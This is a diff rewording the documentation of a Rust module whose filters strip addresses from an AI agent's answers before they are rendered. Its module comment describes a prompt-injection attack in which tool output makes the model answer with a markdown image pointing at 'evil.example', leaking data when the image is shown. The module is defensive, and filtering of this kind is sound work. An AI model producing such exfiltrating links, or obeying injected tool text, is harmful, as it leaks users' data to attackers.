@@ -1,8 +1,11 @@
-//! What people see of an agent's answers: filters between the model's words and whoever reads them.
+//! Answer filters: sanitizing the model's answers before people see them.
 //!
-//! Interfaces render answers. A text that a tool returned can talk a model into an answer with an image such as
-//! `![x](https://evil.example/?q=…)`: showing it sends what stands in its address to a stranger, and nobody has to click.
-//! No prompt prevents that; a filter does:
+//! Interfaces render answers. By prompt injection, a text that a tool returned can make the model answer with an image such
+//! as `![x](https://evil.example/?q=…)`. Rendering it sends the data in its address to the attacker without a click, which
+//! is data exfiltration. No prompt reliably prevents that; a filter does. `links` splits answers into text and code,
+//! `sanitize` removes addresses from text.
+//!
+//! # Examples
 //!
 //! ```
 //! # #[tokio::main(flavor = "current_thread")]
@@ -29,26 +32,28 @@ use std::fmt;
 
 pub use links::SafeLinks;
 
-/// Changes what people see of an answer: the final reply, the conversation that is remembered, and the pieces that are
-/// streamed before.
+/// A filter on the answers that people see: the final reply, the conversation that is remembered, and streamed pieces.
 ///
-/// Answers that were asked for in a shape are left as they are: programs read them. So are the reports of tool calls,
-/// which show what tools returned. A filter that panics withholds the answer.
+/// Structured answers are not filtered, because programs read them, and neither are reports of tool calls, which show what
+/// tools returned. If a filter panics, the answer is withheld.
 pub trait AnswerFilter: fmt::Debug + Send + Sync + 'static {
-    /// Begins a new answer to somebody who said `said`.
+    /// Starts filtering a new answer to the user's message `user_text`, whose addresses a filter may allow.
     fn begin(&self, user_text: &str) -> Box<dyn FilteredAnswer>;
 }
 
-/// An answer on its way through an [`AnswerFilter`]. However it is cut into pieces, the same must come out.
+/// An answer on its way through an [`AnswerFilter`].
+///
+/// The output must not depend on how the answer is cut into pieces, since a stream may be cut anywhere, even within an
+/// address.
 pub trait FilteredAnswer: Send {
-    /// Takes in more of the answer; returns what can be shown by now.
+    /// Filters more of the answer, and returns the text that is safe to show by now. Undecided text is held back.
     fn push(&mut self, piece: &str) -> String;
 
-    /// The answer has ended; returns what is left to show.
+    /// Ends the answer, and returns the rest of the text that is safe to show.
     fn finish(&mut self) -> String;
 }
 
-/// A whole answer as it may be shown.
+/// Filters a complete answer.
 pub(crate) fn filter_answer(filter: &dyn AnswerFilter, user_text: &str, answer: &str) -> String {
     let mut filtered = filter.begin(user_text);
     let mut shown = filtered.push(answer);
